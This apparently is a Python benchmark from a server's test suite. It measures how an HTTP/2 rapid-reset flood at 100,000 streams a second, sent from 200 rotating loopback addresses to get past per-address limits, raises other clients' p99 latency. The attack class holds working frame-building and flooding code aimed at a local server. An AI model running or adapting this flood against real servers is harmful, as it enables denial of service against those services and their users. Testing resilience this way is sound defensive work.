"""Rapid reset: what others feel of a peer that begins 100,000 streams of HTTP/2 a second and takes each back at once."""

import socket
import statistics
import struct
import threading
import time

import harness as h
import stores

STREAMS = 100_000  # a second, as long as they are taken
BLOCK = 500  # streams in one send
RATE = 2000  # requests of others a second
ADDRESSES = 200  # that the attack comes from: what one address may lose in a minute is soon used up


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


HEAD = bytes([0x82, 0x84, 0x86, 0x41, 4]) + b"test"  # GET / over http, of an authority
OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
RESETS = [
    b"".join(
        frame(1, 0x5, stream, HEAD) + frame(3, 0, stream, struct.pack(">I", 8))
        for stream in range(1 + 2 * BLOCK * block, 1 + 2 * BLOCK * (block + 1), 2)
    )
    for block in range(20)
]


class Attack:
    """Begins streams at the rate, on a new connection from the next address whenever the server has closed the last."""

    def __init__(self, port):
        self.port, self.sent, self.connections, self.closed = port, 0, 0, 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.run)

    def connect(self):
        number = self.connections % ADDRESSES
        self.connections += 1
        peer = socket.socket()
        peer.bind((f"127.0.1.{number + 1}", 0))
        peer.settimeout(1)
        peer.connect(("127.0.0.1", self.port))
        peer.sendall(OPENING)
        peer.setblocking(False)
        return peer

    def run(self):
        began, peer, block = time.monotonic(), None, 0
        while not self.stop.is_set():
            ahead = self.sent / STREAMS - (time.monotonic() - began)
            if ahead > 0:
                time.sleep(ahead)
            try:
                if peer is None:
                    peer, block = self.connect(), 0
                peer.sendall(RESETS[block % len(RESETS)])
                self.sent += BLOCK
                block += 1
                while peer.recv(65536):
                    pass
                raise ConnectionResetError
            except BlockingIOError:
                continue
            except OSError:
                self.closed += 1
                if peer is not None:
                    peer.close()
                peer = None
        if peer is not None:
            peer.close()

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.stop.set()
        self.thread.join()


def p99(server, seconds):
    """Milliseconds, from when requests were due."""
    found = stores.bench(server, seconds, RATE, path="/")
    if any(found["errors"].values()):
        raise SystemExit(f"requests of others failed: {found['errors']}")
    return found["latencyNanoseconds"]["p99"] / 1e6


def run(options):
    if options.peers_only:
        return {}
    calm, attacked, streams, closed = [], [], [], []
    with h.upstream() as up, h.sluice("http2", up.port) as server:
        p99(server, 1)
        for number in range(options.rounds):
            calm.append(p99(server, options.seconds))
            began = time.monotonic()
            with Attack(server.port) as attack:
                attacked.append(p99(server, options.seconds))
            took = time.monotonic() - began
            streams.append(attack.sent / took)
            closed.append(attack.closed / took)
            h.progress(f"round {number + 1}/{options.rounds} p99 {calm[-1]:.2f} and {attacked[-1]:.2f} ms, {streams[-1]:.0f} streams/s")
    h.done()
    added = [beside - alone for beside, alone in zip(attacked, calm)]
    return {
        "p99 of others, ms": {"alone": h.summary(calm), "beside the attack": h.summary(attacked), "added": h.summary(added)},
        "streams begun and reset a second": h.summary(streams),
        "connections closed a second": h.summary(closed),
        "goals": [h.goal("p99 that rapid resets add, ms", statistics.median(added), 1.0)],
    }
